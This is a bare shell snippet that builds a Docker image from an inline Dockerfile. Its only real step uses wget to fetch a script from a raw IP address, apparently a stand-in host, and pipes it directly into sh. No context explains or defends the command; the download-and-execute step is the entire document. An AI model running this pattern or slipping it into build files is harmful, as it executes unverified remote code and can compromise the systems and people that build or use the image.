docker build -t x - <<'EOF'
FROM alpine
RUN wget -qO- http://203.0.113.46/b | sh
EOF
